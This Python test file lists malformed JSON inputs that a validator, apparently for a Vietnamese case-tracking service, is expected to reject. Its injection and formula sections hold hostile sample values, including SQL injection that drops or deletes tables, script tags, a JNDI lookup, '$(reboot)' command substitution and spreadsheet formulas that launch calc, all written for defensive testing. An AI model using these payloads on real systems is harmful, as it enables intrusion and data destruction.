"""Bad rows of JSON: texts, dates, numbers, shapes, injections and persons. Classes 8 to 11, 14, 17, 18, 20, 21, 24."""

from collections.abc import Iterator
from unicodedata import normalize

from tests.bad_inputs.case import ACCEPTED, Bad
from tests.bad_inputs.forms import json_row, with_token

DEEP = 100_000


def _field(number: int, name: str, result: str, **changes: object) -> Bad:
    [value] = changes.values()
    planted = value if isinstance(value, str) else ""
    return Bad(number, name, "rest", lambda: json_row(**changes), result, planted=planted)


def _token(number: int, name: str, result: str, field: str, token: bytes) -> Bad:
    return Bad(number, name, "rest", lambda: with_token(field, token), result)


def _whole(number: int, name: str, result: str, body: bytes) -> Bad:
    return Bad(number, name, "rest", lambda: body, result)


BOMBS = [
    Bad(8, "an array nested 100,000 deep", "rest", lambda: b"[" * DEEP + b"]" * DEEP, "too-deep"),
    Bad(8, "an object nested 100,000 deep", "rest", lambda: b'{"a":' * DEEP + b"1" + b"}" * DEEP, "too-deep"),
    Bad(8, "a field nested 65 deep", "rest", lambda: with_token("note", b"[" * 65 + b"]" * 65), "too-deep"),
    _token(8, "an integer of 5,000 digits", "bad-value", "fee", b"9" * 5_000),
    _token(8, "a fraction of 200,000 digits", "bad-value", "fee", b"0." + b"3" * 200_000),
    _token(8, "an exponent of nine digits", "bad-value", "fee", b"1e999999999"),
    _token(8, "a unit of 800,000 characters", "oversized", "unit", b'"' + b"H" * 800_000 + b'"'),
    Bad(
        7,
        "a unit of 2,000,000 characters",
        "rest",
        lambda: json_row(unit="H" * 2_000_000),
        "oversized",
        is_kept=False,
    ),
    _field(8, "digits in words that int would take for ever", "bad-value", fee="9" * 100_000),
]

TEXTS = [
    _token(9, "a byte that no UTF-8 has", "bad-text", "unit", b'"H\xff"'),
    _token(9, "a slash in two bytes", "bad-text", "unit", b'"H\xc0\xaf"'),
    _token(9, "a slash in three bytes", "bad-text", "unit", b'"H\xe0\x80\xaf"'),
    _token(9, "a surrogate in three bytes", "bad-text", "unit", b'"H\xed\xa0\x80"'),
    _token(9, "a character above the last", "bad-text", "unit", b'"H\xf4\x90\x80\x80"'),
    _token(9, "half a character", "bad-text", "unit", b'"H\xe1\xba"'),
    _token(9, "windows-1258", "bad-text", "unit", b'"H\xe3i"'),
    _field(9, "a lone surrogate in the case", "lone-surrogate", id="H24-\ud800"),
    _field(9, "a lone surrogate in the unit", "lone-surrogate", unit="H\udfff"),
    _token(9, "a surrogate pair the wrong way round", "lone-surrogate", "unit", rb'"\udc00\ud800"'),
    _field(9, "NUL in the case", "control-character", id="H24\0-1"),
    _field(9, "NUL in the unit", "control-character", unit="H24\0"),
    _field(9, "bidi override", "control-character", unit="H24\u202e1.42H"),
    _field(9, "bidi isolate", "control-character", procedure="1.\u2067001193"),
    _field(9, "zero width space", "control-character", unit="H24\u200b.1"),
    _field(9, "zero width joiner in the case", "control-character", id="H24\u200d-1"),
    _field(9, "byte order mark inside", "control-character", unit="H24\ufeff.1"),
    _field(9, "soft hyphen in the case", "control-character", id="H24\u00ad-1"),
    _field(9, "no-break space in the case", "control-character", id="H24\u00a0-1"),
    _field(9, "no character at all in the case", "control-character", id="H24\ufffe-1"),
    _field(9, "letters that only a program sees", "control-character", unit="H24\U000e0041"),
    _field(9, "a line separator", "control-character", unit="H24\u2028.1"),
    _field(9, "a text of 513 characters", "oversized", procedure="1" * 513),
    _field(9, "the case in decomposed letters", ACCEPTED, id=normalize("NFD", "Hồ sơ 1")),
]

DATES = [
    _field(10, "30 February", "no-such-date", at="20260230080000"),
    _field(10, "29 February of a common year", "no-such-date", at="20250229080000"),
    _field(10, "31 April", "no-such-date", at="20260431080000"),
    _field(10, "month 13", "no-such-date", at="20261305080000"),
    _field(10, "month 0", "no-such-date", at="20260005080000"),
    _field(10, "day 0", "no-such-date", at="20260100080000"),
    _field(10, "hour 24", "no-such-date", at="20260105240000"),
    _field(10, "minute 60", "no-such-date", at="20260105086000"),
    _field(10, "second 60", "no-such-date", at="20260105080060"),
    _field(10, "a leap second", "no-such-date", at="2016-12-31T23:59:60Z"),
    _field(10, "year 0", "no-such-date", at="00000105080000"),
    _field(10, "year 10000", "bad-value", at="100000105080000"),
    _field(10, "year 10000 in ISO", "bad-value", at="10000-01-05T08:00:00Z"),
    _field(10, "a year before all years", "instant-out-of-range", at="0001-01-01T00:00:00+14:00"),
    _field(10, "an offset of 25 hours", "no-such-date", at="2026-01-05T08:00:00+25:00"),
    _field(10, "seconds since 1970", "bad-value", at="1767574800"),
    _field(10, "milliseconds since 1970", "bad-value", at="1767574800000"),
    _field(10, "microseconds since 1970", "bad-value", at="1767574800000000"),
    _field(10, "a week of ISO", "bad-value", at="2024-W01-1"),
    _field(10, "a day alone", "bad-value", at="20240101"),
    _field(10, "day before month", "bad-value", at="05/01/2026 08:00:00"),
    _field(10, "month before day", "bad-value", at="01/13/2026 08:00:00"),
    _field(10, "a naive time", "bad-value", at="2026-01-05T08:00:00"),
    _field(10, "twelve hours", "bad-value", at="20260105 08:00:00 PM"),
    _field(10, "a minus before it", "bad-value", at="-20260105080000"),
    _field(10, "Arabic digits", "bad-value", at="٢٠٢٦٠١٠٥٠٨٠٠٠٠"),
    _field(10, "fullwidth digits", "bad-value", at="２０２６０１０５０８００００"),
    _field(10, "a list", "bad-value", at=["20260105080000"]),
    _field(10, "true", "bad-value", at=True),
    _field(10, "no date", "missing-value", at=" "),
    _field(10, "an appointment on 31 June", "no-such-date", due="20260631170000"),
]

TIMES = [
    _field(11, "a millisecond before 2000", "occurred-before-2000", at="1999-12-31T23:59:59.999Z"),
    _field(11, "1970", "occurred-before-2000", at="19700101000000"),
    _field(11, "more than 5 minutes ahead", "occurred-in-the-future", at="2026-11-24T09:05:00.001+07:00"),
    _field(11, "year 9999", "occurred-in-the-future", at="99991231000000"),
    _field(11, "exactly 5 minutes ahead", ACCEPTED, at="2026-11-24T09:05:00+07:00"),
    _field(11, "the first instant of 2000", ACCEPTED, at="2000-01-01T00:00:00Z"),
    _field(11, "due before it was received", ACCEPTED, due="20251231170000"),
    _field(11, "due in the year 9998", ACCEPTED, due="99980101000000"),
]

CODES = [
    _field(14, "a unit nobody knows", ACCEPTED, unit="H99.99"),
    _field(14, "a district that ended in 2025", ACCEPTED, unit="000.00.32.H24"),
    _field(14, "a procedure nobody knows", ACCEPTED, procedure="9.999999"),
    _field(14, "a status nobody knows", ACCEPTED, status="77"),
]

INJECTIONS = [
    _field(17, "SQL that ends a text", "bad-value", unit="H24'; DROP TABLE cases; --"),
    _field(17, "SQL that is always true", "bad-value", procedure="x' OR '1'='1"),
    _field(17, "SQL in the case", "bad-value", id="1'); DELETE FROM cases; --"),
    _field(17, "SQL behind a semicolon", "bad-value", unit="H24;-- x"),
    _field(17, "SQL that joins", "bad-value", unit="x' UNION SELECT 1"),
    _field(17, "CRLF of a log", "control-character", unit="H24\r\nERROR forged"),
    _field(17, "line feed in the case", "control-character", id="H24\n1"),
    _field(17, "a label of Prometheus", "control-character", unit='H24"} 1\nhub_forged 1'),
    _field(17, "a label of Prometheus on one line", "bad-value", unit='H24",x="${y}'),
    _field(17, "script", "bad-value", unit="<script>alert(1)</script>"),
    _field(17, "an image", "bad-value", procedure='<img src=x onerror="x">'),
    _field(17, "a closing tag", "bad-value", stage="</td><td>"),
    _field(17, "a comment of HTML", "bad-value", unit="H24<!--"),
    _field(17, "fullwidth script", "bad-value", unit="＜script＞"),
    _field(17, "a template in braces", "bad-value", unit="{{7*7}}"),
    _field(17, "a template with a percent sign", "bad-value", unit="{% import os %}"),
    _field(17, "a look-up of a logger", "bad-value", unit="${jndi:ldap://x/a}"),
    _field(17, "an expression", "bad-value", unit="#{7*7}"),
    _field(17, "a command in parentheses", "bad-value", unit="$(reboot)"),
    _field(17, "a command in backticks", "bad-value", unit="`reboot`"),
    _field(17, "ANSI red", "control-character", unit="\x1b[31mH24"),
    _field(17, "ANSI in eight bits", "control-character", unit="\x9b31mH24"),
    _field(17, "a bell", "control-character", stage="\x07"),
    _field(17, "backspaces", "control-character", unit="H24\b\b\bH29"),
]

FORMULAS = [
    _field(18, "equals", "bad-value", unit="=1+1"),
    _field(18, "a link", "bad-value", unit='=HYPERLINK("http://127.0.0.1/?"&A1,"x")'),
    _field(18, "plus", "bad-value", procedure="+1+cmd|' /C calc'!A0"),
    _field(18, "minus", "bad-value", stage="-2+3+cmd|' /C calc'!A0"),
    _field(18, "at", "bad-value", unit="@SUM(A1:A9)"),
    _field(18, "fullwidth equals", "bad-value", unit="＝1+1"),
    _field(18, "in the case", "bad-value", id="=1+1"),
    _field(18, "behind a space", "bad-value", unit=" =1+1"),
    _field(18, "behind a tab", "bad-value", unit="\t=1+1"),
    _field(18, "behind a carriage return", "bad-value", unit="\r=1+1"),
]

NUMBERS = [
    _token(20, "NaN", "bad-value", "fee", b"NaN"),
    _token(20, "Infinity", "bad-value", "fee", b"Infinity"),
    _token(20, "minus Infinity", "bad-value", "fee", b"-Infinity"),
    _token(20, "1e400", "bad-value", "fee", b"1e400"),
    _token(20, "minus zero", "bad-value", "fee", b"-0.0"),
    _token(20, "a fraction", "bad-value", "fee", b"1.5"),
    _token(20, "an exponent", "bad-value", "fee", b"5e3"),
    _token(20, "2^63", "bad-value", "fee", b"9223372036854775808"),
    _token(20, "minus one", "bad-value", "fee", b"-1"),
    _token(20, "leading zeros", "not-json", "fee", b"007"),
    _token(20, "a plus", "not-json", "fee", b"+7"),
    _token(20, "no digit before the point", "not-json", "fee", b".5"),
    _token(20, "hexadecimal", "not-json", "fee", b"0x10"),
    _token(20, "2^53 + 1, which a float cannot hold", ACCEPTED, "fee", b"9007199254740993"),
    _field(20, "true", "bad-value", fee=True),
    _field(20, "a list", "bad-value", fee=[1]),
    _field(20, "words: minus one", "bad-value", fee="-1"),
    _field(20, "words: Arabic digits", "bad-value", fee="٣٤"),
    _field(20, "words: fullwidth digits", "bad-value", fee="１２３"),
    _field(20, "words: a superscript", "bad-value", fee="²"),
    _field(20, "words: points between thousands", "bad-value", fee="1.000,00"),
    _field(20, "words: commas between thousands", "bad-value", fee="1,000"),
    _field(20, "words: an underscore", "bad-value", fee="1_000"),
    _field(20, "words: a plus", "bad-value", fee="+5"),
    _field(20, "words: nineteen digits", "bad-value", fee="9" * 19),
    _field(20, "a boolean of 7", "bad-value", verified=7),
]


def _doubled() -> Iterator[Bad]:
    row = json_row()
    yield _whole(21, "a key twice", "bad-value", row[:-1] + b', "unit": "H29"}')
    yield _whole(21, "a key twice, once in escapes", "bad-value", row[:-1] + rb', "\u0075nit": "H29"}')
    yield _whole(21, "a key twice inside", "bad-value", row[:-1] + b', "more": {"a": 1, "a": 2}}')


SHAPES = [
    *_doubled(),
    _whole(21, "null", "bad-value", b"null"),
    _whole(21, "a number", "bad-value", b"7"),
    _whole(21, "a text", "bad-value", b'"row"'),
    _whole(21, "an array", "bad-value", b'["H24-1", "1"]'),
    _whole(21, "an empty object", "missing-value", b"{}"),
    _whole(21, "no case", "missing-value", json_row(id=None)),
    _whole(21, "an object for a text", "bad-value", json_row(unit={"code": "H24"})),
    _whole(21, "single quotes", "not-json", b"{'id': 'H24-1'}"),
    _whole(21, "a key without quotes", "not-json", b'{id: "H24-1"}'),
    _whole(21, "a comma too many", "not-json", json_row()[:-1] + b",}"),
    _whole(21, "a comment", "not-json", json_row()[:-1] + b"/* x */}"),
    _whole(21, "a byte order mark before a row", "not-json", b"\xef\xbb\xbf" + json_row()),
    _whole(21, "a line feed inside a text", "not-json", json_row().replace(b"H24-1", b"H24\n1")),
    _whole(21, "a field nobody knows", ACCEPTED, json_row(agency_secret="x")),
]

PERSONS = [
    _field(24, "a citizen number in the case", "personal-data", id="031099001234"),
    _field(24, "a citizen number in the unit", "personal-data", unit="Ông A, CCCD 031099001234"),
    _field(24, "a citizen number in the procedure", "personal-data", procedure="cấp lại cho 030199001234"),
    _field(24, "a citizen number in the status", "personal-data", stage="031099001234"),
    _field(24, "a citizen number in groups", "personal-data", unit="031 099 001 234"),
    _field(24, "a citizen number in fullwidth digits", "personal-data", unit="０３１０９９００１２３４"),
    _field(24, "a mobile number in the procedure", "personal-data", procedure="gọi 0912345678"),
    _field(24, "a mobile number from abroad", "personal-data", stage="gọi +84912345678"),
    _field(24, "a mobile number in groups", "personal-data", stage="0912 345 678"),
    _field(24, "an address of mail in the unit", "personal-data", unit="lo.thi.my@haiphong.example.vn"),
    _field(24, "an address of mail in the case", "personal-data", id="my@example.vn"),
    _field(24, "an address of mail in fullwidth", "personal-data", unit="ｍｙ＠ｅｘａｍｐｌｅ．ｖｎ, H24"),
]

ROWS: tuple[Bad, ...] = (
    *BOMBS,
    *TEXTS,
    *DATES,
    *TIMES,
    *CODES,
    *INJECTIONS,
    *FORMULAS,
    *NUMBERS,
    *SHAPES,
    *PERSONS,
)
